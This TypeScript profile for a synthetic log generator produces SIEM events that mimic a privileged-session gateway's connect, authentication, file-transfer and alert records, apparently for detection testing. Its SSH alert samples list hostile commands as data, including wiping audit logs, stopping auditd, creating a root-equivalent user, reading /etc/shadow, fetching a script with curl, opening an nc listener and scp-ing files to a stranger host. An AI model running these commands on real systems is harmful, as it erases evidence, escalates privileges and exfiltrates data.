import { defineProfile } from './profile.js';
import type { Field, Value } from './profile-data.js';

/** Of each protocol: who logs in with it, and what is seen in it. */
const logins = {
  SSH: '${choice:root,root,oracle,deploy,postgres}',
  RDP: '${choice:Administrator,svc-backup,svc-sql}',
  TELNET: '${choice:admin,cisco,operator}',
  VNC: '${choice:operator,plant}',
};
const sights = {
  SSH: {
    choice: [
      'sudo su -',
      'rm -rf /var/log/audit',
      'useradd -o -u 0 support',
      'cat /etc/shadow',
      'iptables -F',
      'systemctl stop auditd',
      'curl -O https://${site.domain}/a.sh',
      'nc -l -p ${between:1024,9000}',
      'history -c',
      'chmod 4755 /tmp/${pattern:aaaa}',
      'scp ${file.name} ${stranger.address}:/tmp',
    ],
  },
  RDP: '${choice:Registry Editor,Local Users and Groups,Windows Security Settings,Local Security Policy}',
};
const files = { SSH: '/${choice:tmp,srv/data,home,opt/app}/${file.name}', RDP: '${file.folder}\\${file.name}' };
type Protocol = keyof typeof logins;
/** One field, of the value that the protocol has. */
const byProtocol = (key: string, values: Partial<Record<Protocol, Value>>): readonly Field[] =>
  Object.entries(values).map(([protocol, value]) => [key, value, { if: `protocol=${protocol}` }]);

const session = {
  session: 'svc/${pattern:xxxxxxxxxxxxxxxx}/${protocol|protocols.policy}:${between:1,9000}',
  who: '${admin}',
  login: { row: [logins] },
  port: '${between:49152,65535}',
} as const;
/** Each server is managed by one protocol. */
const lets = {
  protocol: { owner: 'server.name', value: { weighted: { SSH: 6, RDP: 4 } } },
  ...session,
  target: { row: [{ name: '${server.name}', address: '${server.address}' }] },
} as const;
/** Machines of the plant, which know neither. */
const plant = {
  protocol: '${asset.type|plant}',
  ...session,
  target: { row: [{ name: '${asset.name|lower}.plant.example.com', address: '${asset.address}' }] },
} as const;
const ends: readonly Field[] = [
  ['app', '${protocol}'],
  ['dhost', '${target.name}'],
  ['dpt', '${protocol|protocols.port}'],
  ['dst', '${target.address}'],
];
const accounts = byProtocol('duser', {
  ...{ SSH: '${login.SSH}', RDP: '${login.RDP}' },
  ...{ TELNET: '${login.TELNET}', VNC: '${login.VNC}' },
});
const more: readonly Field[] = [
  ['dvchost', '${device.hostName}'],
  ['externalId', '${id}'],
  ['deviceExternalId', '${session}'],
];
const source: readonly Field[] = [
  ['shost', '${host.name|lower}.corp.example.com'],
  ['spt', '${port}'],
  ['src', '${host.address}'],
  ['start', '${time:epochMs}'],
  ['suser', '${who}'],
];

const step = (classId: number, name: string, severity: number, reason: string, extra: readonly Field[] = []) => ({
  ...{ classId, name, severity },
  fields: [...ends, ...accounts, ...more, ...extra, ['reason', reason], ...source] as const,
});

/** Safeguard for Privileged Sessions: what happens in the sessions that go through it. */
export const oneidentitySps = defineProfile({
  name: 'oneidentity-sps',
  vendor: 'OneIdentity',
  product: 'SPS',
  version: '7.0.4',
  source: 'a study of published sample lines and the vendor guide on forwarding to a SIEM, read 2026-11-25',
  oddities: [
    'class ids are hashes of the names of the events',
    'reason may be empty',
    'keys stand in the order of the alphabet',
  ],
  hostPrefix: 'sps',
  idKey: 'externalId',
  pri: 134,
  maps: {
    protocols: {
      SSH: { port: '22', policy: 'ssh_console', channel: 'session-shell' },
      RDP: { port: '3389', policy: 'rdp_servers', channel: 'rdp-drawing' },
      TELNET: { port: '23', policy: 'telnet_switches', channel: 'telnet' },
      VNC: { port: '5900', policy: 'vnc_plant', channel: 'vnc' },
    },
    plant: { Switch: 'TELNET', RTU: 'TELNET', PLC: 'TELNET', '*': 'VNC' },
  },
  kinds: {
    connect: step(1350918541, 'ServerConnect', 0, ''),
    'gateway-success': step(782164305, 'GatewayAuthenticationSuccess', 0, ''),
    'gateway-failure': {
      ...step(
        640728123,
        'GatewayAuthenticationFailure',
        5,
        '${choice:Invalid password,No such user,Group not allowed,Time policy}',
      ),
      weight: 6,
      let: lets,
    },
    'server-success': step(1865245228, 'ServerAuthenticationSuccess', 0, ''),
    'server-failure': {
      ...step(
        911383355,
        'ServerAuthenticationFailure',
        5,
        '${choice:Permission denied,Host key mismatch,Account locked}',
      ),
      weight: 6,
      let: lets,
    },
    alert: step(1244069864, 'ChannelAlert', 8, '', [
      ['cat', '${protocol|protocols.channel}'],
      ...byProtocol('msg', sights),
    ]),
    transfer: step(1127618380, 'FileTransfer', 3, '', [
      ['act', '${choice:upload,download}'],
      ...byProtocol('filePath', files),
      ['fname', '${file.name}'],
      ['fsize', '${file.sizeBytes}'],
    ]),
    disconnect: step(1508623942, 'ServerDisconnect', 0, '${choice:,,closed by the client,closed by the server}'),
  },
  sessions: {
    plain: {
      weight: 16,
      let: lets,
      steps: ['gateway-success', 'connect', 'server-success', 'disconnect'],
    },
    plant: {
      weight: 4,
      let: plant,
      steps: ['gateway-success', 'connect', 'server-success', 'disconnect'],
    },
    alerted: {
      weight: 6,
      let: lets,
      steps: ['gateway-success', 'connect', 'server-success', 'alert', 'disconnect'],
    },
    copying: {
      weight: 8,
      let: lets,
      steps: ['gateway-success', 'connect', 'server-success', 'transfer', 'disconnect'],
    },
  },
});
